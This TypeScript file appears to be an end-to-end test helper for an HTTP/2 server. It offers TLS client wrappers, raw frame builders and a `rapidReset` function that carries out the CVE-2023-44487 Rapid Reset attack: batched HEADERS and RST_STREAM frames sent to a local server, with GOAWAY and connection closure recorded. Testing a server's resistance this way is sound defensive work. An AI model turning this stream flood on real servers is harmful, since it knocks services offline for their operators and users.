/**
 * An HTTP/2 client for the e2e tests: node's http2 client over TLS to 127.0.0.1 with the
 * test CA, one session per call unless one is given.
 */
import { connect, type ClientHttp2Session, type OutgoingHttpHeaders } from "node:http2";
import type { Readable } from "node:stream";
import { connect as tlsConnect, type TLSSocket } from "node:tls";

export interface H2Response {
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly body: Buffer;
}

/** A session to https://localhost:PORT (over 127.0.0.1), verified against `ca`, once
 *  the server's SETTINGS arrived (remoteSettings holds them then, not nghttp2's defaults). */
export function h2Session(
  port: number,
  ca: string,
  tls: { maxVersion?: "TLSv1.2" } = {},
): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const session = connect(`https://localhost:${port}`, {
      ca,
      servername: "localhost",
      host: "127.0.0.1",
      ...tls,
    });
    session.once("error", reject);
    session.once("remoteSettings", () => {
      session.off("error", reject);
      resolve(session);
    });
  });
}

export interface H2RequestOptions {
  readonly method?: string;
  readonly headers?: OutgoingHttpHeaders;
  /** The body: a Buffer sent at once, or a stream piped in. */
  readonly body?: Buffer | Readable;
  /** Called with each piece of the response body as it arrives. */
  readonly onData?: (piece: Buffer) => void;
}

/** One request on `session`. */
export function h2Request(
  session: ClientHttp2Session,
  path: string,
  options: H2RequestOptions = {},
): Promise<H2Response> {
  return new Promise((resolve, reject) => {
    const body = options.body;
    const stream = session.request(
      { ":method": options.method ?? "GET", ":path": path, ...options.headers },
      { endStream: body === undefined },
    );
    let status = 0;
    let headers: H2Response["headers"] = {};
    const chunks: Buffer[] = [];
    stream.on("response", (head) => {
      status = Number(head[":status"]);
      headers = head;
    });
    stream.on("data", (piece: Buffer) => {
      chunks.push(piece);
      options.onData?.(piece);
    });
    stream.on("end", () => {
      resolve({ status, headers, body: Buffer.concat(chunks) });
    });
    stream.on("error", reject);
    if (Buffer.isBuffer(body)) stream.end(body);
    else if (body !== undefined) body.pipe(stream);
  });
}

/** One GET on a session of its own, closed after. */
export async function h2Get(
  port: number,
  ca: string,
  path: string,
  options: H2RequestOptions = {},
): Promise<H2Response> {
  const session = await h2Session(port, ca);
  try {
    return await h2Request(session, path, options);
  } finally {
    session.close();
  }
}

/** One HTTP/2 frame (RFC 9113 §4.1). */
/** A TLS connection to 127.0.0.1 that negotiated h2, for writing frames by hand. */
export async function rawH2Connection(port: number, ca: string): Promise<TLSSocket> {
  const socket = tlsConnect({
    host: "127.0.0.1",
    port,
    servername: "localhost",
    ca,
    ALPNProtocols: ["h2"],
  });
  socket.on("error", () => undefined);
  await new Promise((resolve) => socket.once("secureConnect", resolve));
  return socket;
}

export function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

export interface RapidResetResult {
  readonly streams: number;
  /** The GOAWAY error code the server sent, null if none. */
  readonly goaway: number | null;
  /** The server closed the connection (not the client, `quietMs` after its last write). */
  readonly closedByServer: boolean;
}

/**
 * CVE-2023-44487 as an attacker sends it, which node's client will not (it waits for
 * stream slots): HEADERS then RST_STREAM(CANCEL) for `streams` new streams, written in
 * batches as fast as the socket takes them, on one TLS connection (ALPN h2). Resolves
 * once the server closed the connection, or `quietMs` after the last batch.
 */
export async function rapidReset(
  port: number,
  ca: string,
  streams: number,
  quietMs = 3000,
): Promise<RapidResetResult> {
  const socket = await rawH2Connection(port, ca);
  let goaway: number | null = null;
  let pending = Buffer.alloc(0);
  socket.on("data", (data: Buffer) => {
    pending = Buffer.concat([pending, data]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      if (pending[3] === 7) goaway = pending.readUInt32BE(9 + 4);
      pending = pending.subarray(9 + length);
    }
  });
  const closed = new Promise((resolve) => socket.once("close", resolve));
  socket.write(
    Buffer.concat([
      Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
      frame(4, 0, 0, Buffer.alloc(0)),
    ]),
  );
  // HPACK (RFC 7541 App. A): :method GET, :scheme https, :path /, :authority localhost.
  const authority = Buffer.from("localhost");
  const block = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, authority.length]), authority]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(8);
  let id = 1;
  while ((id - 1) / 2 < streams && !socket.destroyed) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 500 && (id - 1) / 2 < streams; i += 1, id += 2) {
      // END_STREAM | END_HEADERS, then the reset.
      batch.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
    }
    socket.write(Buffer.concat(batch));
    await new Promise((resolve) => setImmediate(resolve));
  }
  let closedByServer = true;
  const timer = setTimeout(() => {
    closedByServer = false;
    socket.destroy();
  }, quietMs);
  await closed;
  clearTimeout(timer);
  return { streams: (id - 1) / 2, goaway, closedByServer };
}
